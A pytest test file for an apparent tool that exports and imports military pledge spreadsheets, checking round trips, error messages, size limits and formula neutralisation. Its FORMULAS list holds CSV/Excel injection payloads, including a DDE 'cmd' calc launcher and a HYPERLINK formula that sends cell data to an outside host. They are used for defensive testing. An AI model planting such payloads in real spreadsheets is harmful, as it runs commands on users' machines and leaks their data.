"""Pledge workbooks: export -> import round trips exactly, bad cells are named by sheet, row and
column, formula payloads stay text, and oversized files are refused before parsing."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from guarantor.cli.app import app
from guarantor.errors import InputError
from guarantor.model import Pledge
from guarantor.store import pledge_workbook
from guarantor.store.pledge_workbook import (
    decode_text,
    encode_text,
    parse_pledges_xlsx,
    pledges_to_xlsx,
)
from guarantor.store.records import StoredPledge
from guarantor.store.schema import utcnow
from guarantor.store.tabular import CSV_COLUMNS, CSV_FIELDS, pledge_to_csv_row

SC = "mnf-u-2026-01"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
    " =1+1",
    "'=1+1",
    "#N/A",
    "_x0041_",
    "_x005F_x0041_",
    "a\r\nb\x0bc\x1f",
]
TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    min_size=1,
    max_size=40,
) | st.sampled_from(FORMULAS)
DATES = st.one_of(
    st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31)).map(date.isoformat),
    st.sampled_from(["2026", "2026-01", "2025-13-40"]),
)


@st.composite
def pledges(draw: st.DrawFn) -> StoredPledge:
    """A valid pledge with hostile free text, any caveats and any number fields."""
    data: dict[str, Any] = {
        "id": draw(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,20}", fullmatch=True)),
        "nation": draw(st.sampled_from(["GBR", "FRA", "DEU", "EU"])),
        "capability": draw(st.sampled_from(["frigate", "armoured-brigade", "sam-long"])),
        "quantity": draw(st.integers(1, 10_000)),
        "status": draw(st.sampled_from(["announced", "committed", "ready", "deployed"])),
        "readiness_days": draw(st.integers(0, 3650)),
        "sustainment": {
            "mode": draw(st.sampled_from(["one-tour", "rotational"])),
            "tour_months": draw(st.floats(0.5, 36, allow_nan=False).map(lambda x: round(x, 3))),
        },
        "caveats": {
            "zones": draw(st.lists(st.sampled_from(["kyiv", "home", "ukraine-west"]), unique=True)),
            "conditions": draw(
                st.lists(st.sampled_from(["ceasefire", "us-backstop"]), unique=True)
            ),
        },
        "provenance": {
            "source": draw(TEXT.filter(lambda s: s.strip() != "")),
            "date": draw(DATES),
            "confidence": draw(st.sampled_from(["high", "medium", "low"])),
            "assumption": draw(st.booleans()),
            "note": draw(st.none() | TEXT),
        },
        "notes": draw(st.none() | TEXT),
    }
    if not data["caveats"]["zones"]:
        del data["caveats"]["zones"]
    pledge = Pledge.model_validate(data)
    return StoredPledge(
        scenario=SC, pledge=pledge, version=draw(st.integers(1, 99)), updated_at=utcnow()
    )


def _write(tmp: Path, data: bytes, name: str = "p.xlsx") -> Path:
    path = tmp / name
    path.write_bytes(data)
    return path


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(stored=st.lists(pledges(), min_size=1, max_size=4, unique_by=lambda sp: sp.pledge.id))
def test_export_then_import_gives_the_same_pledges(
    tmp_path_factory: pytest.TempPathFactory, stored: list[StoredPledge]
) -> None:
    path = _write(tmp_path_factory.mktemp("wb"), pledges_to_xlsx(stored))
    items = parse_pledges_xlsx(path)
    assert [Pledge.model_validate(dict(i.data)) for i in items] == [sp.pledge for sp in stored]
    assert [i.version for i in items] == [sp.version for sp in stored]
    assert "<f>" not in _sheet_xml(path.read_bytes())


def test_a_formula_payload_is_text_in_the_file_and_reads_back_exactly(tmp_path: Path) -> None:
    base = Pledge.model_validate(
        {
            "id": "GBR-x",
            "nation": "GBR",
            "capability": "frigate",
            "quantity": 2,
            "provenance": {"source": "s", "date": "2026-01-05", "confidence": "low"},
        }
    )
    stored = [
        StoredPledge(
            scenario=SC,
            pledge=base.model_copy(update={"id": f"GBR-{i}", "notes": text}),
            version=1,
            updated_at=utcnow(),
        )
        for i, text in enumerate(FORMULAS)
    ]
    data = pledges_to_xlsx(stored)
    xml = _sheet_xml(data)
    assert "<f>" not in xml and 't="e"' not in xml
    wb = openpyxl.load_workbook(io.BytesIO(data))
    notes = CSV_COLUMNS.index("notes") + 1
    for row in wb["Pledges"].iter_rows(min_row=2):
        assert row[notes - 1].data_type == "s"
        assert not str(row[notes - 1].value).startswith(("=", "+", "-", "@"))
    # native cells: numbers, booleans and full dates
    first = [c.value for c in wb["Pledges"][2]]
    assert first[CSV_COLUMNS.index("quantity")] == 2
    assert first[CSV_COLUMNS.index("date")] == datetime(2026, 1, 5)
    assert first[CSV_COLUMNS.index("assumption")] is False
    items = parse_pledges_xlsx(_write(tmp_path, data))
    assert [Pledge.model_validate(dict(i.data)).notes for i in items] == FORMULAS


@given(TEXT)
def test_office_escapes_round_trip(text: str) -> None:
    assert decode_text(encode_text(text)) == text
    assert not pledge_workbook._UNSTORABLE.search(encode_text(text))


def test_header_has_units_and_the_csv_names() -> None:
    wb = openpyxl.load_workbook(io.BytesIO(pledges_to_xlsx([])))
    header = [c.value for c in wb["Pledges"][1]]
    assert header[CSV_COLUMNS.index("readiness_days")] == "readiness_days (days)"
    assert header[CSV_COLUMNS.index("quantity")] == "quantity (units)"
    assert [h.split(" (")[0] for h in header] == list(CSV_COLUMNS)
    assert set(CSV_FIELDS) <= set(pledge_to_csv_row(_pledge()))


def _pledge() -> Pledge:
    return Pledge.model_validate(
        {
            "id": "GBR-a",
            "nation": "GBR",
            "capability": "frigate",
            "quantity": 2,
            "provenance": {"source": "s", "date": "2026", "confidence": "low"},
        }
    )


def _book(tmp: Path, rows: list[list[Any]], header: list[str] | None = None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Pledges"
    ws.append(header or ["id", "nation", "capability", "quantity", "source", "date", "confidence"])
    for row in rows:
        ws.append(row)
    path = tmp / "in.xlsx"
    wb.save(path)
    return path


def test_every_bad_cell_is_named_by_sheet_row_and_column(tmp_path: Path) -> None:
    good = ["GBR-a", "GBR", "frigate", 2, "s", "2026", "low"]
    path = _book(
        tmp_path,
        [
            good,
            ["GBR-b", "GBR", "frigate", "abc", "s", "2026", "low"],
            ["GBR-c", "GBR", "frigate", 2.5, "s", "2026", "low"],
            ["GBR-d", "GBR", "frigate", 1, "s", "2026", "maybe"],
            ["GBR-e", "GBR", "frigate", "=1+1", "s", "2026", "low"],
        ],
    )
    with pytest.raises(InputError) as err:
        parse_pledges_xlsx(path)
    lines = [str(p) for p in err.value.problems]
    assert lines == [
        f"{path}: Pledges!D3: quantity must be a whole number, got 'abc'",
        f"{path}: Pledges!D4: quantity must be a whole number, got '2.5'",
        f"{path}: Pledges!G5: confidence: Input should be 'high', 'medium' or 'low'",
        f"{path}: Pledges!D6: quantity: a formula; type its value (formulas are not run)",
    ]


def test_header_problems_are_named(tmp_path: Path) -> None:
    path = _book(tmp_path, [], ["id", "nation", "colour", "quantity (kg)", "date"])
    with pytest.raises(InputError) as err:
        parse_pledges_xlsx(path)
    text = str(err.value)
    assert "Pledges!C1: unknown column 'colour'" in text
    assert "Pledges!D1: quantity: unit must be 'units', got 'kg'" in text
    assert "missing column(s): capability, source, confidence" in text


def test_files_too_large_or_not_workbooks_are_refused_before_parsing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _write(tmp_path, pledges_to_xlsx([]))
    monkeypatch.setattr(pledge_workbook, "MAX_FILE_BYTES", 100)
    monkeypatch.setattr(pledge_workbook, "_openpyxl", lambda: pytest.fail("parsed"))
    with pytest.raises(InputError, match="file too large"):
        parse_pledges_xlsx(path)
    monkeypatch.setattr(pledge_workbook, "MAX_FILE_BYTES", 10**9)
    monkeypatch.setattr(pledge_workbook, "MAX_UNPACKED_BYTES", 1000)
    with pytest.raises(InputError, match="unpacks to"):
        parse_pledges_xlsx(path)
    with pytest.raises(InputError, match="not a zip archive"):
        parse_pledges_xlsx(_write(tmp_path, b"id,nation\n", "fake.xlsx"))


def test_row_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pledge_workbook, "MAX_ROWS", 2)
    good = ["GBR-a", "GBR", "frigate", 2, "s", "2026", "low"]
    path = _book(tmp_path, [good, [*good[:1], *good[1:]], good])
    with pytest.raises(InputError, match="more than 2 pledge rows"):
        parse_pledges_xlsx(path)


def test_cli_round_trip_and_bad_cell_exit_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GUARANTOR_DATABASE_URL", f"sqlite:///{tmp_path / 's.db'}")
    runner = CliRunner()
    book = tmp_path / "out.xlsx"
    res = runner.invoke(app, ["pledges", "export", "--out", str(book)])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["pledges", "import", str(book)])
    assert res.exit_code == 0 and "0 added, 0 updated" in res.output, res.output
    wb = openpyxl.load_workbook(book)
    ws = wb["Pledges"]
    ws["D2"] = "lots"
    ws["N3"] = "=A1"
    ws["D4"] = 7
    wb.save(book)
    res = runner.invoke(app, ["pledges", "import", str(book)])
    assert res.exit_code == 2
    assert "Pledges!D2: quantity must be a whole number, got 'lots'" in res.output
    assert "Pledges!N3: confidence: a formula" in res.output
    # all or nothing: the good change in row 4 was not written either
    res = runner.invoke(app, ["pledges", "list", "--json"])
    assert res.exit_code == 0 and '"quantity": 7' not in res.output


CELL = st.one_of(
    st.none(),
    st.text(max_size=8),
    st.sampled_from(["GBR", "frigate", "low", "2026-01", "=1+1", "'=2", "kyiv;home", "true"]),
    st.integers(-5, 20_000),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.booleans(),
    st.dates(min_value=date(1990, 1, 1), max_value=date(2100, 1, 1)),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    header=st.lists(
        st.one_of(st.sampled_from(CSV_COLUMNS), st.text(max_size=6)), min_size=1, max_size=20
    ),
    rows=st.lists(st.lists(CELL, max_size=20), max_size=5),
)
def test_any_workbook_gives_items_or_input_errors_only(
    tmp_path_factory: pytest.TempPathFactory, header: list[str], rows: list[list[Any]]
) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Pledges"
    for r, values in enumerate([header, *rows], start=1):
        for c, value in enumerate(values, start=1):
            if isinstance(value, str):
                value = pledge_workbook.encode_text(value)
            ws.cell(r, c).value = value
    path = tmp_path_factory.mktemp("fz") / "f.xlsx"
    wb.save(path)
    try:
        items = parse_pledges_xlsx(path)
    except InputError as exc:
        assert all(p.reason for p in exc.problems)
        return
    for item in items:
        assert isinstance(item.data, dict)


def test_a_damaged_workbook_is_one_clear_error(tmp_path: Path) -> None:
    data = pledges_to_xlsx([])
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body[: len(body) // 2]
            if info.filename != "xl/workbook.xml":
                dst.writestr(info, body)
    with pytest.raises(InputError, match=r"not a readable \.xlsx workbook"):
        parse_pledges_xlsx(_write(tmp_path, buf.getvalue(), "broken.xlsx"))
